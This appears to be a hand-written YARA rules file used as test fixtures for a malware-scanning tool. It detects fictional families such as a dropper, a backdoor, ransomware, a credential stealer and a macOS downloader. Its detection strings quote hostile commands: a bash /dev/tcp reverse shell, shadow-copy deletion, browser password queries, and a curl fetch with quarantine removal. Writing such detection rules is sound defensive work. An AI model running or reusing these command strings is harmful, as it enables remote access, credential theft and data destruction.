// Family rules for the corpus, written by hand from strings every variant of a family
// shares (checked absent from corpus/benign). They exercise `spoor test`; they are not
// generator output. The family comes from the MAL_<Family>_... name, except for
// Needle_Privileges, which names it in meta.

rule MAL_Ashdrop_PE_Nov26 {
    meta:
        description = "ashdrop dropper: Run-key fallback and rundll32 launch"
        author = "spoor tests"
    strings:
        $run = "reg.exe add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v %s" ascii
        $dll = "rundll32.exe \"%s\",Start" ascii
        $res = "ADRPAYLOAD" wide
    condition:
        uint16(0) == 0x5A4D and 2 of them
}

rule MAL_Burrow_ELF_Nov26 {
    meta:
        description = "burrow backdoor: reverse shell, preload, kworker masquerade"
    strings:
        $shell = "bash -i >& /dev/tcp/%s/%s 0>&1" ascii
        $kw = "[kworker/0:1-events]" ascii
        $ready = "burrow ready %s" ascii
        $hist = "HISTFILE=/dev/null" ascii
    condition:
        uint32(0) == 0x464C457F and 3 of them
}

rule MAL_Coalpit_PE_Nov26 {
    meta:
        description = "coalpit miner: XMRig-style login and options"
    strings:
        $login = "\"method\":\"login\",\"params\":{\"login\":\"%s\"" ascii
        $opts = "--donate-level=1 --cpu-max-threads-hint=50 --background" ascii
        $key = "Software\\XMRig" wide
    condition:
        uint16(0) == 0x5A4D and 2 of them
}

rule MAL_Fetchbird_PE_Nov26 {
    meta:
        description = "fetchbird downloader: session cookie and mutex prefix"
    strings:
        $cookie = "fb_session=%08lX" ascii
        $mtx1 = "fbird_mtx_v" ascii
        $mtx3 = "Global\\fbird-v3-" wide
    condition:
        uint16(0) == 0x5A4D and $cookie and any of ($mtx*)
}

rule MAL_Lockjaw_PE_Nov26 {
    meta:
        description = "lockjaw ransomware-like: note and recovery sabotage"
    strings:
        $note = "All your documents, photos and databases were encrypted with a unique key." ascii
        $vss = "vssadmin.exe delete shadows /all /quiet" ascii
        $bcd = "bcdedit.exe /set {default} recoveryenabled no" ascii
        $wba = "wbadmin.exe delete catalog -quiet" ascii
    condition:
        uint16(0) == 0x5A4D and 3 of them
}

rule MAL_Magpie_PE_Nov26 {
    meta:
        description = "magpie stealer: browser credential paths and upload boundary"
    strings:
        $sql = "SELECT origin_url, username_value, password_value FROM logins" ascii
        $chrome = "\\Google\\Chrome\\User Data\\Default\\Login Data" ascii
        $edge = "\\Microsoft\\Edge\\User Data\\Default\\Login Data" ascii
        $boundary = "----MagpieBoundary%08lx" ascii
    condition:
        uint16(0) == 0x5A4D and 3 of them
}

rule Needle_Privileges {
    meta:
        family = "needlepoint"
        description = "needlepoint injector: its log line and pipe with debug privilege"
    strings:
        $log = "np: %lu <- %s (%lu bytes)" ascii
        $priv = "SeDebugPrivilege" ascii
        $pipe = "CreateNamedPipeA" ascii
    condition:
        uint16(0) == 0x5A4D and $log and 1 of ($priv, $pipe)
}

rule MAL_Orchard_MachO_Nov26 {
    meta:
        description = "orchard LaunchAgent: plist, curl and quarantine removal"
    strings:
        $curl = "/usr/bin/curl -fsSL -A orchard/%s -o %s %s" ascii
        $xattr = "xattr -d com.apple.quarantine %s" ascii
        $load = "launchctl load -w %s" ascii
    condition:
        (uint32(0) == 0xFEEDFACF or uint32(0) == 0xFEEDFACE or uint32(0) == 0xBEBAFECA) and 2 of them
}

rule MAL_Shroud_PE_Nov26 {
    meta:
        description = "shroud anti-analysis: tool list and VirtualBox artefacts"
    strings:
        $tools = "x64dbg.exe|ollydbg.exe|ProcessHacker.exe|Wireshark.exe|procmon.exe" ascii
        $vbox1 = "\\\\.\\VBoxMiniRdrDN" ascii
        $vbox2 = "VBoxService.exe" ascii
        $wine = "wine_get_unix_file_name" ascii
    condition:
        uint16(0) == 0x5A4D and 3 of them
}
